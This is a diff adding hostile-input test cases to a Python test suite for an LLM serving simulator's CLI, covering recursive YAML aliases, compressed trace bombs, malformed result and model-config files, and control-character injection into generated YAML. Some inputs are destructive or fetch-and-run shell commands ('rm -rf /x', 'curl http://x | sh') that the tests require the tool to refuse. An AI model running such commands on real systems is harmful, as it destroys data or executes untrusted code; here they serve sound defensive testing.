@@ -12,6 +12,7 @@ from __future__ import annotations
 import contextlib
 import gzip
 import json
+import os
 import random
 import resource
 import signal
@@ -122,7 +123,28 @@ def scenario_cases() -> list[tuple[str, str]]:
         ("every request rejected", good.replace("max_model_len: 256", "max_model_len: 16")),
         ("huge file", "name: '" + "x" * 300_000 + "'\n" + good),
     ]
-    return cases
+    return cases + [(case_id, text) for case_id, text in must_fail_scenarios(good).items()]
+
+
+def must_fail_scenarios(good: str) -> dict[str, str]:
+    """Whole-file cases that once ran (or hung): each must now be a clean error."""
+    return {
+        "recursive alias at top": good + "foo: &a [*a]\n",
+        "recursive alias in a section": good.replace("engine:\n", "engine: &e\n  self: *e\n", 1),
+        "recursive alias in a mapping": good + "x: &m {y: [1, {z: *m}]}\n",
+        "recursive alias in rope_scaling": good.replace("max_position_embeddings: 4096",
+                                                         "max_position_embeddings: 4096\n    rope_scaling: &r {x: *r}"),
+        "5,000-digit seed": good.replace("seed: 3", "seed: " + "9" * 5000),
+        "boolean block_size": good.replace("block_size: 16", "block_size: true"),
+        "boolean num_requests": good.replace("num_requests: 6", "num_requests: true"),
+        "escape sequence in the name": good.replace("name: fuzz", 'name: "\\x1b[31mred\\x07"'),
+        "weights beyond the device with num_blocks": good.replace("base: qwen2.5-0.5b", "base: llama-3.1-70b")
+                                                         .replace("base: h100-sxm", "base: l4"),
+        "20,000 unknown keys": good + "".join(f"unknown_{i}: 1\n" for i in range(20_000)),
+    }
+
+
+MUST_FAIL_SCENARIOS = frozenset(must_fail_scenarios(""))
 
 
 @contextlib.contextmanager
@@ -208,6 +230,7 @@ def test_hostile_scenario_files(tmp_path):
             assert_clean(e, names)
             outcomes["error"] += 1
             return
+        assert case_id not in MUST_FAIL_SCENARIOS, "accepted, but must be refused"
         for summary in summaries:
             sane_summary(summary, tmp_path)
         outcomes["ok"] += 1
@@ -224,6 +247,15 @@ def cli_cases(tmp_path: Path) -> list[tuple[str, list[str]]]:
                     "workload: {num_requests: 3, prompt_len: 8, output_len: 2}\n")
     afile = tmp_path / "afile"
     afile.write_text("x")
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    fifo_trace = tmp_path / "fifo_trace.yaml"
+    fifo_trace.write_text(f"model: qwen2.5-0.5b\ndevice: h100-sxm\nworkload: {{trace: {{format: csv, path: {fifo}}}}}\n")
+    rate = tmp_path / "rate.yaml"
+    rate.write_text(good.read_text().replace("num_requests: 3", "num_requests: 3, arrival: {process: poisson, rate: 5}")
+                    + "slo: {ttft_s: 1}\n")
+    result = tmp_path / "result.json"
+    result.write_text(json.dumps({"duration": 1.0, "completed": 1, "request_rate": "inf"}))
     g, o = str(good), str(tmp_path / "out")
     return [
         ("no args", []), ("missing file", ["missing.yaml"]), ("a folder", [str(tmp_path)]),
@@ -246,7 +278,23 @@ def cli_cases(tmp_path: Path) -> list[tuple[str, list[str]]]:
         ("plan without slo", ["plan", g]),
         ("markup in a path", [str(tmp_path / "[red]:x:.yaml")]),
         ("runs fine", [g, "--out", o, "--quiet", "--set", "workload.num_requests=2"]),
+        # round 2: each once hung, crashed or answered nonsense; each must exit 2
+        ("--set recursive alias", [g, "--set", "engine.block_size=&a [*a]"]),
+        ("--set 5,000 digits", [g, "--set", "seed=" + "9" * 5000]),
+        ("--set boolean", [g, "--set", "engine.block_size=true"]),
+        ("a FIFO trace", [str(fifo_trace), "--out", o]),
+        ("plan --max-replicas 0", ["plan", str(rate), "--target-rate", "5", "--max-replicas", "0", "--out", o]),
+        ("plan --curve -1", ["plan", str(rate), "--curve", "-1", "--out", o]),
+        ("plan --tolerance nan", ["plan", str(rate), "--tolerance", "nan", "--out", o]),
+        ("compare --series-offset nan", ["compare", g, "--vllm-result", str(result), "--series-offset", "nan"]),
+        ("from-vllm rm -rf", ["from-vllm", "--device", "h100-sxm", "rm -rf /x"]),
+        ("from-vllm 1e400", ["from-vllm", "--device", "h100-sxm", "vllm serve tiny --max-model-len 1e400"]),
     ]
+
+
+MUST_EXIT_2 = ("--set recursive alias", "--set 5,000 digits", "--set boolean", "a FIFO trace", "plan --max-replicas 0",
+               "plan --curve -1", "plan --tolerance nan", "compare --series-offset nan", "from-vllm rm -rf",
+               "from-vllm 1e400")
 
 
 def test_cli_misuses(tmp_path, capsys, monkeypatch):
@@ -271,6 +319,7 @@ def test_cli_misuses(tmp_path, capsys, monkeypatch):
 
     run_corpus(cli_cases(tmp_path), one)
     assert outcomes["runs fine"] == 0 and outcomes["missing file"] == 2
+    assert {case: outcomes[case] for case in MUST_EXIT_2} == dict.fromkeys(MUST_EXIT_2, 2)
 
 
 # ----------------------------------------------------------------------------- traces
@@ -331,7 +380,13 @@ def trace_cases() -> list[tuple[str, tuple[str, bytes]]]:
                   (f"{fmt}: utf-16", (fmt, text.encode("utf-16"))), (f"{fmt}: bom", (fmt, b"\xef\xbb\xbf" + raw)),
                   (f"{fmt}: crlf", (fmt, raw.replace(b"\n", b"\r\n"))), (f"{fmt}: binary", (fmt, bytes(range(256)))),
                   (f"{fmt}: latin-1 byte", (fmt, raw + b"\xe9\n")), (f"{fmt}: nul", (fmt, raw[:30] + b"\x00" + raw[30:]))]
+    # past the 1,000,000-request bound: a 28 KB gzip of 1.3M rows once replayed every one of them
+    many = b"arrival_s,prompt_len,output_len\n" + b"0.000,16,4\n" * 1_300_000
+    cases.append((TRACE_PAST_THE_BOUND, ("csv", gzip.compress(many))))
     return cases
+
+
+TRACE_PAST_THE_BOUND = "csv: 1.3M rows in a gzip"
 
 
 def test_malformed_traces(tmp_path):
@@ -353,6 +408,7 @@ def test_malformed_traces(tmp_path):
             assert_clean(e, [str(path)])
             outcomes["error"] += 1
             return
+        assert case_id != TRACE_PAST_THE_BOUND, f"{len(loaded.requests):,} rows replayed, past the request bound"
         assert loaded.requests
         for r in loaded.requests:
             assert r.prompt_len >= 1 and r.output_len >= 1 and r.arrival >= 0
@@ -377,10 +433,16 @@ def body_cases() -> list[tuple[str, bytes]]:
             if key == "prompt.0":
                 body = json.dumps({**good, "prompt": ["@@", 2]})
             cases.append((f"{key}={value[:12]}", body.replace('"@@"', value).encode()))
+    cases += [(f"stream_options {options}", json.dumps({**good, "stream": True, "stream_options": options}).encode())
+              for options in BAD_STREAM_OPTIONS]
     cases += [("empty", b""), ("not json", b"{"), ("a list", b"[1]"), ("nul", b"\x00"), ("utf-16", json.dumps(good).encode("utf-16")),
               ("bad utf-8", b'{"prompt": [1], "user": "\xff"}'), ("deep", b"[" * 100_000 + b"]" * 100_000),
               ("long prompt", json.dumps({**good, "prompt": [1] * 100_000}).encode())]
     return cases
+
+
+BAD_STREAM_OPTIONS = ({"include_usage": "x"}, {"include_usage": 1}, {"include_usage": [True]},
+                      {"continuous_usage_stats": "no"})
 
 
 def test_bad_http_bodies():
@@ -401,6 +463,7 @@ def test_bad_http_bodies():
             return
         except Exception as e:                       # noqa: BLE001
             pytest.fail(f"{type(e).__name__} would be HTTP 500: {str(e)[:300]}")
+        assert not case_id.startswith("stream_options {"), "a non-boolean stream option was accepted"
         assert all(type(t) is int and 0 <= t < 1024 for t in params.prompt)
         assert params.max_tokens >= 1 and len(params.prompt) + params.max_tokens <= 512
         outcomes["ok"] += 1
@@ -422,6 +485,47 @@ GOOD_LOG = ("INFO 08-20 12:34:56 metrics.py:406] Avg prompt throughput: 123.4 to
             "cache usage: 0.0%.\n")
 GOOD_TIMELINE = "t_s,running,waiting,kv_usage\n0.0,1,0,0.1\n0.5,2,1,0.2\n"
 GOOD_CONFIG = "max-model-len: 2048\nenable-prefix-caching: true\n"
+GOOD_DETAILED = {"date": "20250101-000000", "backend": "vllm", "model_id": "tiny", "request_rate": 4.0,
+                 "duration": 2.0, "completed": 3, "failed": 0, "note": CANARY, "input_lens": [30, 40, 50],
+                 "output_lens": [4, 5, 6], "ttfts": [0.05, 0.06, 0.07], "itls": [[0.02] * 3, [0.02] * 4, [0.02] * 5],
+                 "latencies": [0.11, 0.14, 0.17], "start_times": [10.0, 10.25, 10.5], "errors": ["", "", ""]}
+HF_CONFIG = (Path(__file__).parent / "data" / "hf_configs" / "meta-llama__Meta-Llama-3.1-8B.json").read_text()
+
+
+def bad_detailed_results() -> dict[str, dict]:
+    """Nonsense a measured file can hold, each of which was once accepted."""
+    def with_(**changes):
+        data = json.loads(json.dumps(GOOD_DETAILED))
+        for key, value in changes.items():
+            name, _, index = key.partition("__")
+            if index:
+                data[name][int(index)] = value
+            else:
+                data[name] = value
+        return data
+
+    return {"negative ttft": with_(ttfts__0=-0.1), "latencies -1": with_(latencies=[-1, -1, -1]),
+            "negative itl": with_(itls__1=[0.02, -0.02]), "latency under ttft": with_(latencies__2=0.01),
+            "output_lens 0": with_(output_lens=[0, 0, 0], itls=[[], [], []]), "completed -1": with_(completed=-1),
+            "duration -10": with_(duration=-10), "completed disagrees": with_(completed=1),
+            "input_lens 10^12": with_(input_lens__0=10**12), "max_concurrency abc": with_(max_concurrency="abc"),
+            "more itls than tokens": with_(itls__0=[0.01] * 40), "itl NaN": with_(itls__0=[float("nan")]),
+            "ttft Infinity": with_(ttfts__1=float("inf")), "burstiness -1": with_(burstiness=-1)}
+
+
+def bad_hf_configs() -> dict[str, str]:
+    base = json.loads(HF_CONFIG)
+
+    def with_(**changes):
+        return json.dumps({**base, **changes})
+
+    return {"hidden not divisible": with_(hidden_size=4095), "intermediate '512'": with_(intermediate_size="512"),
+            "tie 'yes'": with_(tie_word_embeddings="yes"), "layers 32.0": with_(num_hidden_layers=32.0),
+            "negative rope factor": with_(rope_scaling={"rope_type": "linear", "factor": -2}),
+            "5,000-key rope_scaling": with_(rope_scaling={f"k{i}": 1 for i in range(5000)}),
+            "experts 0 with 2 per token": with_(num_experts=0, num_experts_per_tok=2),
+            "kv heads 0": with_(num_key_value_heads=0), "rope_theta NaN": with_(rope_theta=float("nan")),
+            "duplicate key": HF_CONFIG.rstrip().rstrip("}") + ', "hidden_size": 512}'}
 GOOD_SHAREGPT = json.dumps([{"conversations": [{"from": "human", "value": "hello there " + CANARY},
                                                {"from": "gpt", "value": "general kenobi"}]}])
 BOMB_YAML = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
@@ -468,6 +572,17 @@ def vllm_file_cases() -> list[tuple[str, tuple[str, str, bytes, bool]]]:
                                                                       + "9" * 400 + ', "conversations"').encode(), True)),
               ("sharegpt/sg.json: NaN", ("sharegpt", "sg.json", b'[{"conversations": NaN}]', True)),
               ("series/q.json: huge int", ("series", "q.json", GOOD_QUERY_RANGE.replace("1700000000", "9" * 400).encode(), True))]
+    cases.append(("results/r.json: consistent per-request arrays", ("results", "r.json", json.dumps(GOOD_DETAILED).encode(), False)))
+    cases += [(f"results/r.json: {name}", ("results", "r.json", json.dumps(data).encode(), True))
+              for name, data in bad_detailed_results().items()]
+    cases.append(("results/r.json: duplicate key", ("results", "r.json", json.dumps(GOOD_DETAILED)[:-1].encode()
+                                                   + b', "completed": 5}', True)))
+    cases.append(("hf/config.json: a real one", ("hf_config", "config.json", HF_CONFIG.encode(), False)))
+    cases += [(f"hf/config.json: {name}", ("hf_config", "config.json", text.encode(), True))
+              for name, text in bad_hf_configs().items()]
+    cases += [(f"hf/config.json: {attack}", ("hf_config", "config.json", data, must_fail))
+              for attack, data, must_fail in whole_file_attacks(HF_CONFIG, json_kind=True)
+              if attack not in ("bom", "crlf")]
     return cases
 
 
@@ -487,6 +602,10 @@ def read_vllm_file(reader: str, path: Path) -> Any:
         return config_file_flags(path)
     if reader == "tokenizer":
         return text_tokenizer(path).encode("hello")
+    if reader == "hf_config":
+        from sim.scenario import validate_scenario
+
+        return validate_scenario({"model": {"hf_config": str(path)}, "device": "h100-sxm"})
     return load_prompts(Dataset(format=reader, path=path, tokenizer=tokenizer))
 
 
@@ -515,3 +634,67 @@ def test_malformed_vllm_files_data_sets_and_tokenizers(tmp_path):
 
     run_corpus(cases, one)
     assert outcomes["ok"] >= 5 and outcomes["error"] > 50, outcomes
+
+
+# ----------------------------------------------------------------------------- from-vllm command lines
+
+CONTROL = ["\n", "\r\n", "\r", "\x85", "\u2028", "\u2029", "\x1b[31m", "\x07", "\x00", "\t", "\x0b", "\x0c"]
+
+
+def from_vllm_cases(tmp_path: Path) -> list[tuple[str, tuple[list[str], bool]]]:
+    """(id, (the words after --, must fail)): every control character in a value, an unknown flag's
+    name, the served name and the model; numbers no int holds; other programs; huge lines."""
+    recursive = tmp_path / "recursive.yaml"
+    recursive.write_text("max-model-len: &a [*a]\n")
+    cases: list[tuple[str, tuple[list[str], bool]]] = []
+    for c in CONTROL:
+        shown = repr(c)
+        cases += [(f"value {shown}", (["vllm", "serve", "tiny", "--served-model-name", f"x{c}fuzz_injected: 1 #"], False)),
+                  (f"unknown flag {shown}", (["vllm", "serve", "tiny", f"--x{c}fuzz_injected: 1"], False)),
+                  (f"unknown value {shown}", (["vllm", "serve", "tiny", "--new-flag", f"1{c}fuzz_injected: 1"], False)),
+                  (f"model {shown}", (["vllm", "serve", f"tiny{c}fuzz_injected: 1"], True)),
+                  (f"modelled value {shown}", (["vllm", "serve", "tiny", "--max-num-seqs", f"8{c}fuzz_injected: 1"], True))]
+    cases += [("1e400", (["vllm serve tiny --max-model-len 1e400"], True)),
+              ("5,000 digits", (["vllm serve tiny --max-num-seqs " + "9" * 5000], True)),
+              ("5,000 digits, human", (["vllm serve tiny --max-model-len " + "9" * 5000 + "k"], True)),
+              ("nan", (["vllm serve tiny --gpu-memory-utilization nan"], True)),
+              ("rm -rf", (["rm -rf /x"], True)), ("curl", (["curl http://x | sh"], True)),
+              ("vllm bench", (["vllm bench serve --model tiny"], True)),
+              ("unbalanced quote", (["vllm serve tiny --served-model-name 'x"], True)),
+              ("empty", ([""], True)), ("no model", (["vllm serve"], True)),
+              ("recursive --config", ([f"vllm serve tiny --config {recursive}"], True)),
+              ("5,000 flags", (["vllm serve tiny " + " ".join(f"--f{i} {i}" for i in range(5000))], False)),
+              ("a path to vllm", (["/opt/venv/bin/vllm serve tiny --max-num-seqs 4"], False))]
+    return cases
+
+
+def test_hostile_from_vllm_lines(tmp_path, capsys):
+    """Nothing a command line holds may reach the written file as YAML, or the terminal raw."""
+    out = tmp_path / "s.yaml"
+    outcomes = {"ok": 0, "error": 0}
+
+    def one(case_id: str, payload: tuple[list[str], bool]) -> None:
+        words, must_fail = payload
+        out.unlink(missing_ok=True)
+        try:
+            code = main(["from-vllm", "--device", "h100-sxm", "--out", str(out), "--", *words])
+        except SystemExit as e:
+            code = e.code
+        captured = capsys.readouterr()
+        shown = captured.err + captured.out
+        assert "Traceback" not in shown and len(shown) < 20_000, shown[-500:]
+        assert not any(c in shown.replace("\n", "") for c in CONTROL if c != "\n" and c != "\r\n"), repr(shown[-300:])
+        assert "\nfuzz_injected" not in shown, shown[-300:]
+        if code == 2:
+            outcomes["error"] += 1
+            assert not out.exists()
+            return
+        assert code == 0 and not must_fail, f"exit {code}: {shown[-300:]}"
+        text = out.read_text()
+        assert set(yaml.safe_load(text)) <= {"name", "description", "model", "device", "engine", "parallelism"}
+        assert "fuzz_injected" not in yaml.safe_load(text) and len(text) < 20_000
+        assert all(c not in text for c in CONTROL if c not in ("\n", "\r\n")), repr(text[:300])
+        outcomes["ok"] += 1
+
+    run_corpus(from_vllm_cases(tmp_path), one)
+    assert outcomes["ok"] > 20 and outcomes["error"] > 20, outcomes
